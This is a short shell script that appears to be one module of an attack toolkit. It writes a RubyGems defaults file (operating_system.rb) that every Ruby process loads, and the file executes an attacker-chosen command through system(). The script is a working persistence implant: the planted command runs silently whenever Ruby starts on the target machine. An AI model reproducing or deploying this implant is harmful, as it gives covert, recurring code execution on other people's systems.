#!/bin/sh
# ruby-defaults: a file that every ruby loads (RubyGems defaults)
. "${0%/*}/lib.sh"
payload
put /usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb 644 \
	"$head" "system(\"$cmd\")"
